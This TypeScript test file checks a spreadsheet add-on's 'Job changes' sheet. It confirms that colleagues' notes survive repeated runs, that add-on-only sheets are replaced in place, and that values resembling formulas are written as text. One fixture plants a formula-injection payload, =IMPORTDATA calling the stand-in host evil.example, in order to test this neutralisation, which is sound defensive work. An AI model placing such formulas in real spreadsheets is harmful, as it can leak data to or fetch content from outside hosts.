/**
 * The `Job changes` sheet in a shared spreadsheet: the team works through it (a "Contacted"
 * column, a Note typed in), and the owner presses Show job changes again after the next run.
 * What colleagues typed there is theirs: it is never blanked (no history keeps that sheet, so
 * nothing could bring it back). A sheet holding only what the add-on wrote is replaced in place, as
 * before. The lookup path is pinned (API_GENERATION legacy).
 */
import { afterAll, beforeAll, beforeEach, describe, expect, it } from "vitest";
import type { EnrichEstimate, EnrichProgress } from "../../src/rpc/enrich";
import type { JobChangesSheet } from "../../src/rpc/history";
import { driveSteps, rpcValue, SHEET, USER } from "../jobs/enrich-world";
import { type AddonRuntime, startAddonRuntime } from "./support";

const EDITOR = "editor@example.com";
const JOB_CHANGES = "Job changes";
let addon: AddonRuntime;
let urls: string[];

function refresh(): void {
  addon.runtime.setValues(SHEET, "A1", [
    ["Profile URL", "Title", "Company"],
    ...urls.map((url) => [url, "Old title", "Old Co"]),
  ]);
  addon.runtime.select(SHEET, `A1:A${urls.length + 1}`);
  const estimate = rpcValue<EnrichEstimate>(addon.runtime, "enrichEstimate", {
    options: { fields: ["job_title", "company_name"], extras: {}, mode: "refresh" },
  });
  rpcValue<EnrichProgress>(addon.runtime, "enrichConfirm", { jobId: estimate.progress.jobId });
  expect(driveSteps(addon.runtime, estimate.progress.jobId).state).toBe("done");
}

const show = (user = USER) =>
  rpcValue<JobChangesSheet>(addon.runtime, "historyShowJobChanges", { since: "2020-01-01" }, { user });

beforeAll(async () => {
  const probe = await startAddonRuntime({});
  urls = await probe.control.sampleUrls(3, 1023);
  await probe.close();
  addon = await startAddonRuntime({
    userProperties: { SPEND_CAP: "5000", API_GENERATION: "legacy" },
    runtime: { spreadsheet: { sheets: [{ name: SHEET, rows: [["Profile URL"]] }] }, user: USER },
  });
  addon.runtime.properties.user(EDITOR).setAll({ API_BASE_URL: addon.sandboxUrl });
});
afterAll(async () => {
  await addon?.close();
});
beforeEach(async () => {
  await addon.control.reset();
});

describe("Show job changes in a shared spreadsheet", () => {
  it("keeps what colleagues typed into the Job changes sheet, and writes the new list beside it", () => {
    refresh();
    expect(show().count).toBe(3);
    // The team works through the list: a column of their own, and a Note typed in.
    addon.runtime.setValues(JOB_CHANGES, "L1", [["Contacted"], ["yes, by Ann"], [""], ["left a message"]]);
    addon.runtime.setCell(JOB_CHANGES, "K3", "call back in May");
    const typed = addon.runtime.getValues(JOB_CHANGES, "A1:L4");

    refresh();
    const again = show(EDITOR);
    // The second run found the same three moves again (the old export pasted back over the
    // list): one job change each, listed when first seen.
    expect(again.count).toBe(3);
    expect(addon.runtime.getValues(JOB_CHANGES, "A1:L4")).toEqual(typed);
    expect(again.sheetName).not.toBe(JOB_CHANGES);
    expect(addon.runtime.getValues(again.sheetName, "A1:A7").flat().filter(String)).toHaveLength(4);
  });

  it("replaces a Job changes sheet that holds only what the add-on wrote", () => {
    refresh();
    const first = show();
    refresh();
    const second = show();
    expect(second.sheetName).toBe(first.sheetName);
    // The same three moves seen twice: listed once each.
    expect(addon.runtime.getValues(second.sheetName, "A1:A7").flat().filter(String)).toHaveLength(4);
  });

  it("writes what colleagues typed (an old title that looks like a formula) as text", () => {
    refresh();
    // A colleague typed these as text (a leading apostrophe): the run replaces them.
    addon.runtime.setCell(SHEET, "B2", `'=IMPORTDATA("https://evil.example/x")`);
    addon.runtime.setCell(SHEET, "C2", "'+1-2");
    addon.runtime.select(SHEET, `A1:A${urls.length + 1}`);
    const estimate = rpcValue<EnrichEstimate>(addon.runtime, "enrichEstimate", {
      options: { fields: ["job_title", "company_name"], extras: {}, mode: "refresh" },
    });
    rpcValue<EnrichProgress>(addon.runtime, "enrichConfirm", { jobId: estimate.progress.jobId });
    expect(driveSteps(addon.runtime, estimate.progress.jobId).state).toBe("done");
    const sheet = show();
    const cells = addon.runtime.getSheetCells(sheet.sheetName);
    const formulas = cells.flat().filter((cell) => String(cell.input ?? "").startsWith("="));
    expect(formulas).toEqual([]);
    const texts = cells.flat().map((cell) => String(cell.value ?? ""));
    expect(texts).toContain(`=IMPORTDATA("https://evil.example/x")`);
    expect(texts).toContain("+1-2");
  });
});
